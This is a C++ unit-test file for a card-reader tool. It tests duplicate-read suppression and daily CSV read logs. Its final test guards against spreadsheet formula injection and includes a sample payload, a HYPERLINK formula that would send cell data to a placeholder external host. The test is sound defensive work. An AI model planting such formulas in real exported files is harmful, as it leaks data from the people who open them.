// What becomes of a series of cards: held back as repeats or given out by the
// template, and the lines of the read log.

#include "output/CardOutput.h"

#include "redirect/TypedDelivery.h"
#include "tests/support/FakePersonnelNumbers.h"
#include "tests/support/FileText.h"
#include "tests/support/SpreadsheetCells.h"
#include "tests/support/TempDir.h"

#include <gtest/gtest.h>

namespace pelvaro {
namespace {

using namespace std::chrono_literals;

const RepeatGuard::Clock::time_point kStart{};
const LocalDateTime kMoment = {2026, 12, 9, 14, 3, 7};

OutputTemplate templateOf(std::string_view text) {
    return OutputTemplate::parse(text).outputTemplate.value();
}

// Prints the text, as the command-line reader does without typing.
Delivery printed(const std::string&) {
    return {};
}

TEST(CardOutput, RepeatGuardHoldsBackTheCardTypedLastWithinItsTime) {
    CardOutput output(OutputTemplate(), RepeatGuard(3s), std::nullopt);
    const auto typed = [&](std::string_view code, std::chrono::milliseconds after) {
        return output.take({code, false, {}, kMoment}, kStart + after, printed).text;
    };
    EXPECT_EQ(typed("0A", 0ms), "0A");
    EXPECT_EQ(typed("0A", 2999ms), std::nullopt);
    EXPECT_EQ(typed("0B", 3000ms), "0B") << "another card";
    EXPECT_EQ(typed("0A", 3500ms), "0A") << "no longer the card typed last";
    EXPECT_EQ(typed("0A", 6400ms), std::nullopt) << "timed from when it was typed";
    EXPECT_EQ(typed("0A", 6500ms), "0A");

    CardOutput unguarded;
    for (int read = 0; read < 3; ++read)
        EXPECT_EQ(unguarded.take({"0A", false, {}, kMoment}, kStart, printed).text, "0A");
}

class ReadLogTest : public ::testing::Test {
protected:
    CardOutput::Result take(CardOutput& output, std::string_view code, const LocalDateTime& moment,
                            std::chrono::seconds after) {
        return output.take({code, false, database.source(), moment}, kStart + after,
                           [this](const std::string&) { return deliveryOf(typing); });
    }

    TypingResult typing; // what became of each text typed

    test::TempDir dir;
    FakePersonnelNumbers database{{{}, "4711"}, {}};
};

TEST_F(ReadLogTest, LineForEveryCardReadInAFilePerDay) {
    const auto folder = dir.path() / "Protokoll";
    CardOutput output(templateOf("{pnr}{tab}{dec10}{enter}"), RepeatGuard(5s),
                      ReadLog::dailyFilesIn(folder));
    EXPECT_EQ(take(output, "123456789A", kMoment, 0s).logFailure, std::nullopt);
    take(output, "123456789A", {2026, 12, 9, 14, 3, 8}, 1s);
    database.answer.personnelNumber = "Nr. \"7\";\nneu";
    take(output, "0A", {2026, 12, 10, 0, 0, 1}, 36000s);

    EXPECT_EQ(test::fileText(folder / "Pelvaro-2026-12-09.csv"),
              "Zeit;Code;Personalnummer;Ausgabe;Ergebnis\r\n"
              "2026-12-09T14:03:07;123456789A;4711;4711{tab}0878082202{enter};getippt\r\n"
              "2026-12-09T14:03:08;123456789A;4711;;zurückgehalten\r\n");
    EXPECT_EQ(test::fileText(folder / "Pelvaro-2026-12-10.csv"),
              "Zeit;Code;Personalnummer;Ausgabe;Ergebnis\r\n"
              "2026-12-10T00:00:01;0A;\"Nr. \"\"7\"\";\nneu\";"
              "\"Nr. \"\"7\"\";neu{tab}0000000010{enter}\";getippt\r\n")
        << "a line break in the number is not typed";
    EXPECT_EQ(database.asked.size(), 3u) << "one lookup per card for the text and the log";
}

TEST_F(ReadLogTest, CardNotTypedWholeIsLoggedSoAndNotHeldBackWhenItComesAgain) {
    const auto file = dir.path() / "gelesen.csv";
    CardOutput output(OutputTemplate(), RepeatGuard(60s), ReadLog::intoFile(file));
    typing = TypingResult::stopped(false, "das Desktop-Portal hat einen Tastendruck nicht "
                                          "angenommen.");
    EXPECT_FALSE(take(output, "0A", kMoment, 0s).delivery->whole);
    typing = TypingResult::stopped(true, "Zeichen fehlen in der Tastaturbelegung.");
    EXPECT_EQ(take(output, "0A", kMoment, 1s).text, "0A") << "not held back";
    typing = {};
    EXPECT_EQ(take(output, "0A", kMoment, 2s).text, "0A") << "typed in part: not held back";
    EXPECT_EQ(take(output, "0A", kMoment, 3s).text, std::nullopt) << "typed whole: held back";
    EXPECT_EQ(test::fileText(file),
              "Zeit;Code;Personalnummer;Ausgabe;Ergebnis\r\n"
              "2026-12-09T14:03:07;0A;4711;0A;nicht getippt: das Desktop-Portal hat einen "
              "Tastendruck nicht angenommen.\r\n"
              "2026-12-09T14:03:07;0A;4711;0A;teilweise getippt: Zeichen fehlen in der "
              "Tastaturbelegung.\r\n"
              "2026-12-09T14:03:07;0A;4711;0A;getippt\r\n"
              "2026-12-09T14:03:07;0A;4711;;zurückgehalten\r\n");
}

TEST_F(ReadLogTest, UnwritableLogIsReportedOnceAndTheCardsStillGoOut) {
    const auto notAFolder = dir.path() / "Protokoll";
    std::ofstream(notAFolder) << "a file";
    CardOutput output(OutputTemplate(), RepeatGuard(), ReadLog::dailyFilesIn(notAFolder));
    const CardOutput::Result first = take(output, "0A", kMoment, 0s);
    EXPECT_EQ(first.text, "0A");
    const std::string failure = "Konnte das Leseprotokoll " +
                                (notAFolder / "Pelvaro-2026-12-09.csv").string() +
                                " nicht schreiben. ";
    EXPECT_EQ(first.logFailure, failure + "1 Zeile wartet.");
    for (int card = 2; card < 10; ++card)
        EXPECT_EQ(take(output, "0B", kMoment, 1s).logFailure, std::nullopt) << "said once";
    EXPECT_EQ(take(output, "0B", kMoment, 1s).logFailure, failure + "10 Zeilen warten.");
    EXPECT_EQ(output.flushLog(), std::nullopt) << "and not again for the same lines";

    std::filesystem::remove(notAFolder);
    EXPECT_EQ(output.flushLog(), std::nullopt) << "written without another card";
    EXPECT_EQ(take(output, "0C", kMoment, 2s).logFailure, std::nullopt);
    const auto rows = test::spreadsheetCells(test::fileText(notAFolder / "Pelvaro-2026-12-09.csv"));
    ASSERT_EQ(rows.size(), 12u);
    EXPECT_EQ(rows[1][1], "0A") << "the lines that waited, in order, before the next";
    EXPECT_EQ(rows[10][1], "0B");
    EXPECT_EQ(rows[11][1], "0C");
    std::filesystem::remove_all(notAFolder);
    std::ofstream(notAFolder) << "a file";
    EXPECT_NE(take(output, "0D", kMoment, 3s).logFailure, std::nullopt) << "failing anew";
    EXPECT_EQ(take(output, "0E", kMoment, 4s).text, "0E");
}

TEST_F(ReadLogTest, FieldsASpreadsheetWouldTakeForFormulasStayText) {
    const auto file = dir.path() / "log.csv";
    CardOutput output(templateOf("{pnr}"), RepeatGuard(), ReadLog::intoFile(file));
    const std::vector<std::string> personnelNumbers = {
        "=HYPERLINK(\"http://x.example/?\"&A1;\"P1\")", "+49 1", "-1+1", "@SUM(A1)", "\tA",
        "\rB", "C\tD", "4711-0"};
    for (const std::string& number : personnelNumbers) {
        database.answer.personnelNumber = number;
        take(output, "0A", kMoment, 0s);
    }

    const auto rows = test::spreadsheetCells(test::fileText(file));
    ASSERT_EQ(rows.size(), personnelNumbers.size() + 1);
    for (size_t card = 0; card < personnelNumbers.size(); ++card) {
        const std::string& number = personnelNumbers[card];
        const bool formulaLike = card < 6;
        EXPECT_EQ(rows[card + 1][2], formulaLike ? "'" + number : number);
        for (const std::string& cell : rows[card + 1])
            EXPECT_TRUE(cell.empty() || std::string_view("=+-@\t\r").find(cell[0]) == cell.npos)
                << "a formula: " << cell;
    }
}

} // namespace
} // namespace pelvaro
